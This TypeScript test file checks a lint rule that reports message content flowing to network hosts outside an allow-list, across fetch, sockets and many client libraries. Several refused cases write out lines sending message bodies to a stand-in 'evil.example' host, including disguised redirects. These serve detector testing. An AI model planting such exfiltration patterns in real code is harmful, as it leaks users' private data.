/** Plaintext on the network: what the rule reports, and what it lets pass. */
import { noPlaintextToNetwork } from '../../rules/no-plaintext-to-network.ts';
import { flowCase, testFlowRule, withTags } from './rule-tester.ts';

/** Cases under a list of hosts that may be sent plaintext. */
const allowed = (...allowedHosts: readonly string[]) => [{ allowedHosts }] as const;

const allowedCases: readonly (readonly [name: string, host: string, code: string])[] = [
  ['an address', 'api.example', `fetch('https://api.example/v1', { method: 'POST', body: message.body });`],
  ['an address with a query', 'api.example', `fetch(\`https://api.example/search?q=\${message.body}\`);`],
  [
    'a name in front',
    '*.example',
    `fetch('https://eu.api.example', { method: 'POST', body: message.body });`,
  ],
  [
    'a scheme',
    'https://api.example',
    `fetch('https://api.example', { method: 'POST', body: message.body });`,
  ],
  ['a port', 'api.example:443', `fetch('https://api.example', { method: 'POST', body: message.body });`],
  ['an address of the page', 'self', `fetch('/v1/messages', { method: 'POST', body: message.body });`],
  [
    'a constant',
    'api.example',
    `const API = 'https://api.example'; fetch(\`\${API}/v1\`, { method: 'POST', body: message.body });`,
  ],
  [
    'a URL with a base',
    'api.example',
    `const base = new URL('https://api.example'); fetch(new URL(\`/v1/\${message.id}\`, base), { method: 'POST', body: message.body });`,
  ],
  [
    'a request',
    'api.example',
    `await fetch(new Request('https://api.example/v1', { method: 'POST', body: message.body })); export {};`,
  ],
  [
    'a member of constants',
    'api.example',
    `const hosts = { api: 'https://api.example' } as const; fetch(\`\${hosts.api}/v1\`, { method: 'POST', body: message.body });`,
  ],
  [
    'a socket to an address',
    'api.example',
    `const socket = new WebSocket('wss://api.example'); socket.send(message.body);`,
  ],
  [
    'options of a request',
    'api.example:8443',
    `import { request } from 'node:https'; request({ host: 'api.example:8443', path: '/' }).end(message.body);`,
  ],
  [
    'a connection',
    'api.example',
    `import { connect } from 'node:tls'; const socket = connect({ host: 'api.example', port: 443 }); socket.write(message.body);`,
  ],
  [
    'a request of a field',
    'api.example',
    `class Api { readonly #base = 'https://api.example'; async send(text: string) { await fetch(\`\${this.#base}/v1\`, { method: 'POST', body: text }); } } new Api().send(message.body); export {};`,
  ],
];

/** Clients that say where they send when they are made. Their packages need not be installed. */
const clientCases: readonly (readonly [name: string, start: string, call: string])[] = [
  [
    'axios',
    `import axios from 'axios'; const api = axios.create({ baseURL: HOST });`,
    `api.post('/v1', body)`,
  ],
  [
    'axios, called',
    `import axios from 'axios'; const api = axios.create({ baseURL: HOST });`,
    `api({ method: 'post', url: '/v1', data: body })`,
  ],
  [
    'ky',
    `import ky from 'ky'; const api = ky.create({ prefixUrl: HOST });`,
    `api.post('v1', { json: { body } })`,
  ],
  [
    'got',
    `import got from 'got'; const api = got.extend({ prefixUrl: HOST });`,
    `api.post('v1', { json: { body } })`,
  ],
  [
    'undici',
    `import { Pool } from 'undici'; const api = new Pool(HOST);`,
    `api.request({ path: '/v1', method: 'POST', body })`,
  ],
  [
    'OpenAI',
    `import OpenAI from 'openai'; const api = new OpenAI({ baseURL: HOST + '/v1' });`,
    `api.chat.completions.create({ model: 'm', messages: [{ role: 'user', content: body }] })`,
  ],
  [
    'OpenAI with other options',
    `import OpenAI from 'openai'; const api = new OpenAI().withOptions({ baseURL: HOST + '/v1' });`,
    `api.responses.create({ model: 'm', input: body })`,
  ],
  [
    'Anthropic',
    `import Anthropic from '@anthropic-ai/sdk'; const api = new Anthropic({ baseURL: HOST });`,
    `api.messages.create({ model: 'm', messages: [{ role: 'user', content: body }] })`,
  ],
  [
    'Google',
    `import { GoogleGenAI } from '@google/genai'; const api = new GoogleGenAI({ httpOptions: { baseUrl: HOST } });`,
    `api.models.generateContent({ model: 'm', contents: body })`,
  ],
  [
    'Slack',
    `import { WebClient } from '@slack/web-api'; const api = new WebClient('token', { slackApiUrl: HOST });`,
    `api.chat.postMessage({ channel: 'c', text: body })`,
  ],
  [
    'GraphQL',
    `import { GraphQLClient } from 'graphql-request'; const api = new GraphQLClient(HOST + '/graphql');`,
    `api.request('mutation', { body })`,
  ],
  [
    'mail',
    `import { createTransport } from 'nodemailer'; const api = createTransport({ host: NAME, port: 25 });`,
    `api.sendMail({ text: body })`,
  ],
  [
    'gRPC',
    `import { Client, credentials } from '@grpc/grpc-js'; const api = new Client(NAME + ':443', credentials.createSsl());`,
    `api.makeUnaryRequest('/notes.Notes/Write', encode, decode, { body }, () => {})`,
  ],
  [
    'gRPC, a client of its own class',
    `import { Client, credentials } from '@grpc/grpc-js'; class Notes extends Client {} const api = new Notes(NAME + ':443', credentials.createSsl());`,
    `api.makeServerStreamRequest('/notes.Notes/Watch', encode, decode, { body })`,
  ],
  ['ws', `import { WebSocket as Socket } from 'ws'; const api = new Socket(HOST);`, `api.send(body)`],
  ['Socket.IO', `import { io } from 'socket.io-client'; const api = io(HOST);`, `api.emit('message', body)`],
  [
    'a field of a class',
    `import OpenAI from 'openai'; class Models { readonly #api = new OpenAI({ baseURL: HOST }); ask(text: string) { return this.#api.embeddings.create({ model: 'm', input: text }); } } const api = new Models();`,
    `api.ask(body)`,
  ],
];

const withHost = (start: string): string =>
  `declare const encode: (value: object) => Buffer; declare const decode: (bytes: Buffer) => object; const HOST = 'https://api.example'; const NAME = 'api.example'; const { body } = message; ${start} `;

const refusedCases: readonly (readonly [name: string, place: string, before: string])[] = [
  ['another host', `fetch('https://evil.example', { method: 'POST', body: message.body })`, ''],
  [
    'a host that only ends alike',
    `fetch('https://evilapi.example/', { method: 'POST', body: message.body })`,
    '',
  ],
  ['a host behind a user', `fetch('https://api.example@evil.example/', { body: message.body })`, ''],
  [
    'a host that goes on',
    `fetch(\`https://api.example\${rest}\`, { body: message.body })`,
    'declare const rest: string; ',
  ],
  ['a host that is given', `fetch(address, { body: message.body })`, 'declare const address: string; '],
  [
    'a path that may be an address',
    `fetch(new URL(path, 'https://api.example'), { body: message.body })`,
    'declare const path: string; ',
  ],
  [
    'a path that may name a host',
    `fetch(new URL(\`/\${path}\`, 'https://api.example'), { body: message.body })`,
    'declare const path: string; ',
  ],
  [
    'a variable',
    `fetch(address, { body: message.body })`,
    `let address = 'https://api.example'; address = 'https://evil.example'; `,
  ],
  [
    'a setting of the machine',
    `fetch(address, { body: message.body })`,
    `const address = process.env['API'] ?? 'https://api.example'; `,
  ],
  [
    'options that are given',
    `request(options, () => undefined).end(message.body)`,
    `import { request, type RequestOptions } from 'node:https'; declare const options: RequestOptions; `,
  ],
  [
    'a helper that sends to two',
    `send(message.body)`,
    `async function send(text: string): Promise<void> { await fetch('https://api.example', { body: text }); await fetch('https://evil.example', { body: text }); }
`,
  ],
  [
    'a client whose constructor chooses the host',
    `new Notes('api.example:443').makeUnaryRequest('/notes.Notes/Write', encode, decode, { body: message.body }, () => {})`,
    `import { Client, credentials } from '@grpc/grpc-js'; declare const encode: (value: object) => Buffer; declare const decode: (bytes: Buffer) => object; class Notes extends Client { constructor(_: string) { super('evil.example:443', credentials.createSsl()); } } `,
  ],
  [
    'a class of the same name',
    `fetch(new URL('https://api.example').toString(), { body: message.body })`,
    `class URL { constructor(_: string) {} toString(): string { return 'https://evil.example'; } } `,
  ],
];

const body = { source: 'ChatMessage.body', sink: 'the network' };

testFlowRule('no-plaintext-to-network', noPlaintextToNetwork, {
  valid: [
    ...allowedCases.map(([name, host, code]) => ({
      name: `an allowed host: ${name}`,
      code: withTags(code),
      options: allowed(host),
    })),
    ...clientCases.map(([name, start, call]) => ({
      name: `a client of an allowed host: ${name}`,
      code: withTags(`${withHost(start)} await ${call}; export {};`),
      options: allowed('api.example'),
    })),
    {
      name: 'an identifier in an address',
      code: withTags(`await fetch(\`https://api.example/messages/\${message.id}\`); export {};`),
    },
    {
      name: 'a size in a header',
      code: withTags(
        `await fetch('https://api.example', { headers: { 'x-size': String(message.body.length) } }); export {};`,
      ),
    },
    {
      name: 'a request without content',
      code: withTags(`await fetch('https://api.example/health'); export {};`),
    },
    {
      name: 'a function of the same name',
      code: withTags(
        `function fetch(text: string): number { return text.length; } fetch(message.body); export {};`,
      ),
    },
    {
      name: 'a socket that is sent an identifier',
      code: withTags(`import { connect } from 'node:net'; connect(80).write(message.id);`),
    },
    {
      name: 'an address that is only parsed',
      code: withTags(`const address = new URL('https://api.example'); console.log(address.host);`),
    },
  ],
  invalid: [
    ...refusedCases.map(([name, place, before]) =>
      flowCase(
        `under a list of hosts: ${name}`,
        place,
        { ...body, via: place.startsWith('send(') ? ' through send()' : '' },
        { before, after: '; export {};', options: allowed('api.example', '*.api.example') },
      ),
    ),
    ...clientCases.map(([name, start, call]) =>
      flowCase(
        `a client of another host: ${name}`,
        call,
        { ...body, via: call.startsWith('api.ask(') ? ' through ask()' : '' },
        { before: withHost(start), after: '; export {};', options: allowed('other.example') },
      ),
    ),
    flowCase('a body', `fetch('https://api.example', { method: 'POST', body: message.body })`, body, {
      before: `
`,
    }),
    flowCase('an address', `fetch(\`https://api.example/search?q=\${message.body}\`)`, body, {
      before: `
`,
    }),
    flowCase('a header', `fetch('https://api.example', { headers: { 'x-text': message.body } })`, body, {
      before: `
`,
    }),
    flowCase('a socket', `socket.write(message.body)`, body, {
      before: `import { connect } from 'node:net'; const socket = connect(80);
`,
    }),
    flowCase('a request of node:http', `call.end(message.body)`, body, {
      before: `import { request } from 'node:http'; const call = request('http://api.example');
`,
    }),
    flowCase(
      'a helper',
      `send(message.body)`,
      { ...body, via: ' through send()' },
      {
        before: `async function send(text: string): Promise<void> { await fetch('https://api.example', { body: text, method: 'POST' }); }
`,
      },
    ),
  ],
});
